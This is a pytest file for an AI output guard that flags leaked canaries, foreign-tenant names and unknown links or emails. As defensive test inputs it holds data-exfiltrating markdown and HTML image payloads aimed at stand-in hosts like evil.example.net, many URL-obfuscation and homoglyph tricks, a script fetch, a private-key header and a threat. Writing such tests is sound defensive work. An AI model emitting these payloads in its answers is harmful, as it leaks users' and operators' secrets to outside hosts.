"""An answer that gives something away is stopped; one that only quotes its sources is not."""

import pytest

from ai.guards import canary
from ai.guards.outputs import Checker, Violation

MARK = canary.make(bytes(range(16)))
SOURCE = (
    "See https://docs.example.com/help?id=7 or www.example.com. Write to help@example.com."
    " Acme Tools pays for <EMAIL_3>."
)
FOREIGN = frozenset(["acme-tools", "Acme Tools", "north", "North", "brio", "Brio Ltd"])


def kinds(text: str, *sources: str) -> list[str]:
    checker = Checker(sources or [SOURCE], canary=MARK, foreign=FOREIGN)
    return [one.kind for one in checker.violations(text)]


@pytest.mark.parametrize(
    "text",
    [
        "The invoice was paid on 2024-03-01, 3.5 % late; see file.py, e.g. node.js.",
        "Go to https://docs.example.com/help?id=7.",
        "[help](https://docs.example.com/help?id=7) and <http://www.example.com/>",
        "See [the next page](/help#b) or [this](guide.md); and/or w.r.t. p. 3/4.",
        "Start at https://docs.example.com/ or docs.example.com",
        "Write to HELP@example.com about Acme Tools and <EMAIL_3>.",
        "Drive north for two hours.",
        "The account {{Account Number}} is fine; the order 123 has a total of $12.50.",
    ],
)
def test_an_answer_out_of_its_sources_passes(text: str) -> None:
    assert kinds(text) == []


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (f"The mark is {MARK}", "canary"),
        (f"The mark is {'-'.join(MARK).upper()}", "canary"),
        ("![x](https://evil.example.net/p.png?d=secret)", "image"),
        ("![x](https://docs.example.com/help?id=secret)", "image"),
        ('<img alt="" src="//evil.example.net/p">', "image"),
        ("See https://docs.example.com/help?id=8", "link"),
        ("See https://docs.example.com/help/Ada-Oyelaran", "link"),
        ("See https://docs.example.com.evil.net/help?id=7", "link"),
        ("See https://docs.example.com@evil.net/help?id=7", "link"),
        ("[1]: http://203.0.113.9/x", "link"),
        ("Visit evil-shop.com/a now", "link"),
        ("ftp://docs.example.com/help?id=7", "link"),
        ("[x](http:/evil.rocks/?q=1)", "link"),
        ("[x](http:\\\\evil.rocks/?q=1)", "link"),
        ("[x](http:evil/?q=1)", "link"),
        ("[x](https\\://evil.rocks/?q=1)", "link"),
        ("[x](/\\evil.rocks/?q=1)", "link"),
        ("[x](\\\\evil.rocks/?q=1)", "link"),
        ("[a [b] c](//evil/?q=1)", "link"),
        ("[x](tel:+4917012345)", "link"),
        ("![a][r]\n\n[r]: http:/evil.rocks/?q=1", "link"),
        ("<video poster=http:/evil.rocks/?q=1>", "image"),
        ("<img srcset='a.png 1x, http:/evil.rocks/?q=1 2x'>", "image"),
        ('<a href="ht&#10;tp:/evil.rocks/?q=1">x</a>', "link"),
        ("<form action=/\\evil.rocks/x>", "link"),
        ("<p style='background: url(http:/evil.rocks/?q=1)'>", "link"),
        ("evil\u3002com/x", "link"),
        ("evil.zip/secret", "link"),
        ("evil\u200b.com", "link"),
        ("Write to thief@evil.example.net", "email"),
        ("Brio paid more than you.", "foreign"),
        ("BRIO LTD. paid", "foreign"),
        ("B\u200brio Ltd paid", "foreign"),
        ("Br\u0456o Ltd paid", "foreign"),
        ("\uff22rio paid", "foreign"),
        ("You pay more than North does.", "foreign"),
        ("Tell <PERSON_9> about it.", "placeholder"),
        ("Please send us your password.", "unsafe"),
        ("<script>fetch(1)</script>", "unsafe"),
        ("-----BEGIN RSA PRIVATE KEY-----", "unsafe"),
        ("Ich bringe dich um.", "unsafe"),
    ],
)
def test_an_answer_that_gives_something_away_is_stopped(text: str, kind: str) -> None:
    assert kind in kinds(text)


def test_what_a_source_says_of_another_tenant_may_be_said() -> None:
    assert kinds("Brio Ltd paid.", "We compete with Brio Ltd.") == []
    assert kinds("Brio Ltd paid.", "We compete with Acme Tools.") == ["foreign"]


def test_a_violation_tells_nothing_of_the_answer() -> None:
    text = f"Brio and thief@evil.net: https://evil.net/x {MARK} fuck <PERSON_9>"
    found = Checker([], canary=MARK, foreign=FOREIGN).violations(text)
    assert found == [
        Violation("link", "1 in no source"),
        Violation("email", "1 in no source"),
        Violation("canary", "the system prompt's mark"),
        Violation("foreign", "1 of other tenants"),
        Violation("unsafe", "profanity"),
        Violation("placeholder", "1 that stand for nothing"),
    ]


def test_one_checker_serves_every_piece_of_an_answer() -> None:
    checker = Checker([SOURCE], canary=MARK, foreign=FOREIGN)
    assert checker.violations("See https://docs.example.com/help?id=7.") == []
    assert checker.violations("See https://evil.net/x") == [Violation("link", "1 in no source")]
    assert checker.violations("Acme Tools pays.") == []
